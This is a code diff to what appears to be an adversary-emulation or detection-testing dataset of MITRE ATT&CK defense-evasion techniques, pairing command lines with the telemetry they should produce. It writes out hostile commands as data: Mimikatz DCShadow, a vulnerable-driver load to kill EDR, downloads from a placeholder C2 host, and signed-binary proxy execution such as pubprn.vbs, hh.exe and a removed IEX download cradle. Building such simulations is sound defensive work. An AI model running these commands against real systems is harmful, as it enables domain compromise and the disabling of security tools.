@@ -1,6 +1,19 @@
 import { NET35, t, v } from "../dsl";
+import {
+  clickOnceVariants,
+  controlPanelExploitVariants,
+  controlPanelVariants,
+  installUtilVariants,
+  syncAppvVariants,
+} from "./defense-evasion-proxy";
 
 const SCRIPTS = "C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US";
+/** Defender's current definition update folder (mpengine.dll lives there). */
+const DEFINITIONS =
+  "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{5A8F3C9E-2B4D-4E1F-9A7C-3D6B8E0F1A2C}";
+/** DER start of explicit P-384 curve parameters (version, prime field, p): what a CurveBall cert carries. */
+const P384_EXPLICIT =
+  "30820157020101303C06072A8648CE3D0101023100FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEFFFFFFFF0000000000000000FFFFFFFF";
 
 /** Defense evasion, continued: signed-binary proxy execution and defense tampering. */
 export const defenseEvasion2 = [
@@ -24,12 +37,7 @@ export const defenseEvasion2 = [
     ],
   ),
   t("T1127.002", "ClickOnce", "dfsvc.exe installs and runs a ClickOnce application from a URL.", [
-    v("rundll32-dfshim", [
-      {
-        cmd: "rundll32.exe dfshim.dll,ShOpenVerbApplication https://{{c2}}/app/{{name}}.application",
-        net: [["{{c2}}", 443]],
-      },
-    ]),
+    ...clickOnceVariants,
   ]),
   t("T1127.003", "JamPlus", "The JamPlus build tool running a jamfile that executes commands.", [
     v("jam", ["{{tools}}\\jam.exe -f {{tmp}}\\{{rand}}.jam"]),
@@ -60,36 +68,174 @@ export const defenseEvasion2 = [
       ]),
     ],
   ),
-  t("T1207", "Rogue domain controller", "DCShadow: Mimikatz registers a fake DC and pushes changes.", [
-    v(
-      "dcshadow",
-      [
-        '{{tools}}\\mimikatz.exe "lsadump::dcshadow /object:{{user}} /attribute:primaryGroupID /value:512" exit',
-        '{{tools}}\\mimikatz.exe "lsadump::dcshadow /push" exit',
-      ],
-      { elevated: true, user: "@admin" },
-    ),
-  ]),
-  t("T1211", "Defense evasion exploit", "A vulnerable signed driver loaded to kill EDR (BYOVD).", [
-    v(
-      "byovd",
-      [
-        {
-          cmd: 'sc create aswArPot binPath= "C:\\Windows\\Temp\\aswArPot.sys" type= kernel',
-          then: [
-            {
-              id: "d",
-              kind: "driver.load",
-              image: "C:\\Windows\\Temp\\aswArPot.sys",
-              signed: true,
-              signature: "AVAST Software s.r.o.",
-            },
-          ],
-        },
-      ],
-      { elevated: true },
-    ),
-  ]),
+  t(
+    "T1207",
+    "Rogue domain controller",
+    "DCShadow: Mimikatz registers the workstation as a DC (server/nTDSDSA objects, GC and DRS SPNs), pushes a change by replication, then unregisters.",
+    [
+      v(
+        "dcshadow",
+        [
+          // The RPC server half runs with a SYSTEM token (!processtoken) and waits for the DC to replicate.
+          {
+            cmd: '{{tools}}\\mimikatz.exe "!+" "!processtoken" "lsadump::dcshadow /object:{{user}} /attribute:primaryGroupID /value:512" exit',
+            as: "srv",
+            keep: true,
+            loads: ["C:\\Windows\\System32\\samlib.dll"],
+          },
+          // The push half, as a domain admin: registers the fake DC over LDAP, triggers replication, cleans up.
+          {
+            cmd: 'cmd.exe /c runas /user:{{domain}}\\{{admin}} "{{tools}}\\mimikatz.exe \\"lsadump::dcshadow /push\\" exit"',
+            user: "@admin",
+            net: [
+              ["@dc", 389],
+              ["@dc", 135],
+            ],
+            then: [
+              {
+                id: "tgs",
+                kind: "kerberos.tgs",
+                host: "@dc",
+                user: "@admin",
+                service: "@dc",
+                source: "@workstation",
+              },
+              {
+                id: "ldap",
+                kind: "logon",
+                host: "@dc",
+                session: "dcshadow",
+                user: "@admin",
+                logonType: 3,
+                source: "@workstation",
+              },
+              {
+                id: "server",
+                kind: "directory.change",
+                host: "@dc",
+                session: "dcshadow",
+                operation: "create",
+                object: "CN={{me}},CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration",
+                objectClass: "server",
+              },
+              {
+                id: "ntds",
+                kind: "directory.change",
+                host: "@dc",
+                session: "dcshadow",
+                operation: "create",
+                object:
+                  "CN=NTDS Settings,CN={{me}},CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration",
+                objectClass: "nTDSDSA",
+              },
+              {
+                id: "spn",
+                kind: "directory.change",
+                host: "@dc",
+                session: "dcshadow",
+                object: "@workstation",
+                objectClass: "computer",
+                changes: [
+                  { attribute: "servicePrincipalName", value: "GC/{{mefqdn}}/{{dns}}" },
+                  {
+                    attribute: "servicePrincipalName",
+                    value: "E3514235-4B06-11D1-AB04-00C04FC2DCD2/{{guid}}/{{dns}}",
+                  },
+                ],
+              },
+              {
+                id: "unspn",
+                kind: "directory.change",
+                host: "@dc",
+                session: "dcshadow",
+                object: "@workstation",
+                objectClass: "computer",
+                delayMs: 4000,
+                changes: [
+                  { attribute: "servicePrincipalName", value: "GC/{{mefqdn}}/{{dns}}", op: "delete" },
+                  {
+                    attribute: "servicePrincipalName",
+                    value: "E3514235-4B06-11D1-AB04-00C04FC2DCD2/{{guid}}/{{dns}}",
+                    op: "delete",
+                  },
+                ],
+              },
+              { id: "ldap-off", kind: "logoff", host: "@dc", session: "dcshadow" },
+            ],
+          },
+        ],
+        { elevated: true, user: "@admin", needs: ["domain admin", "SYSTEM on the rogue host"] },
+      ),
+    ],
+  ),
+  t(
+    "T1211",
+    "Defense evasion exploit",
+    "Security software exploited to disable or bypass it: BYOVD, a crafted file crashing Defender's engine, a spoofed signature.",
+    [
+      v(
+        "byovd",
+        [
+          {
+            cmd: 'sc create aswArPot binPath= "C:\\Windows\\Temp\\aswArPot.sys" type= kernel',
+            then: [
+              {
+                id: "d",
+                kind: "driver.load",
+                image: "C:\\Windows\\Temp\\aswArPot.sys",
+                signed: true,
+                signature: "AVAST Software s.r.o.",
+              },
+            ],
+          },
+        ],
+        { elevated: true },
+      ),
+      // A file crafted to hit a memory-corruption bug in mpengine (CVE-2021-1647 style): Defender scans it on
+      // write and its service process dies with an access violation in the engine.
+      v(
+        "mpengine-crash",
+        [
+          {
+            ps: "Invoke-WebRequest -Uri https://{{c2}}/{{rand}}.zip -OutFile {{downloads}}\\{{rand}}.zip",
+            net: [["{{c2}}", 443]],
+            files: ["{{downloads}}\\{{rand}}.zip"],
+            then: [
+              { id: "scan", kind: "file.read", proc: "@msmpeng", path: "{{downloads}}\\{{rand}}.zip" },
+              {
+                id: "crash",
+                kind: "process.crash",
+                proc: "@msmpeng",
+                module: `${DEFINITIONS}\\mpengine.dll`,
+                exceptionCode: "0xc0000005",
+              },
+            ],
+          },
+        ],
+        { shell: "ps" },
+      ),
+      // CurveBall (CVE-2020-0601): a payload signed with a spoofed ECC certificate; on a patched host crypt32 in
+      // the Explorer process verifying the Mark-of-the-Web publisher reports the attempt through CveEventWrite.
+      v(
+        "curveball-signed-payload",
+        [
+          {
+            by: "@explorer",
+            then: [
+              {
+                id: "cve",
+                kind: "cve.audit",
+                cve: "[CVE-2020-0601] cert validation",
+                details: `CA: <Microsoft ECC Product Root Certificate Authority 2018> sha1: {{hex40}} para: 06052B81040022 otherPara: ${P384_EXPLICIT}`,
+              },
+            ],
+          },
+          { cmd: "{{downloads}}\\{{name}}.exe", parent: "@explorer" },
+        ],
+        { shell: "none" },
+      ),
+    ],
+  ),
   t("T1216", "System script proxy execution", "Signed Windows scripts used to launch payloads.", [
     v("pubprn", [`cscript.exe /b ${SCRIPTS}\\pubprn.vbs 127.0.0.1 script:https://{{c2}}/{{rand}}.sct`]),
     v("manage-bde", ["cscript.exe C:\\Windows\\System32\\manage-bde.wsf"]),
@@ -103,9 +249,7 @@ export const defenseEvasion2 = [
     ]),
   ]),
   t("T1216.002", "SyncAppvPublishingServer", "SyncAppvPublishingServer.vbs/exe running PowerShell.", [
-    v("vbs", [
-      "cscript.exe C:\\Windows\\System32\\SyncAppvPublishingServer.vbs \"n;(New-Object Net.WebClient).DownloadString('http://{{c2}}/p') | IEX\"",
-    ]),
+    ...syncAppvVariants,
     v("exe", ['C:\\Windows\\System32\\SyncAppvPublishingServer.exe "n; Start-Process calc"']),
   ]),
   t("T1218", "System binary proxy execution", "Signed binaries launching payloads.", [
@@ -120,20 +264,24 @@ export const defenseEvasion2 = [
     v("hh-remote", [{ cmd: "hh.exe http://{{c2}}/{{rand}}.chm", net: [["{{c2}}", 80]] }]),
   ]),
   t("T1218.002", "Control panel", "control.exe loading a .cpl payload.", [
+    ...controlPanelVariants,
     v("control-cpl", [
       { cmd: "control.exe {{tmp}}\\{{rand}}.cpl", as: "c" },
       {
         cmd: '"C:\\Windows\\System32\\rundll32.exe" Shell32.dll,Control_RunDLL {{tmp}}\\{{rand}}.cpl',
         parent: "c",
+        loads: ["{{tmp}}\\{{rand}}.cpl"],
       },
     ]),
     v("rundll32-cpl", ["rundll32.exe shell32.dll,Control_RunDLL {{appdata}}\\{{rand}}.cpl"]),
+    ...controlPanelExploitVariants,
   ]),
   t("T1218.003", "CMSTP", "cmstp.exe with an INF that runs a payload or bypasses UAC.", [
     v("cmstp-inf", ["cmstp.exe /ni /s {{tmp}}\\{{rand}}.inf"]),
     v("cmstp-au", ["cmstp.exe /s /au C:\\Users\\Public\\{{rand}}.inf"]),
   ]),
   t("T1218.004", "InstallUtil", "InstallUtil running the uninstaller of an attacker assembly.", [
+    ...installUtilVariants,
     v("installutil-u", [`${NET35}\\InstallUtil.exe /logfile= /LogToConsole=false /U {{tmp}}\\{{rand}}.dll`]),
     v("installutil-exe", [`${NET35}\\installutil.exe /u C:\\Users\\Public\\{{rand}}.exe`]),
   ]),
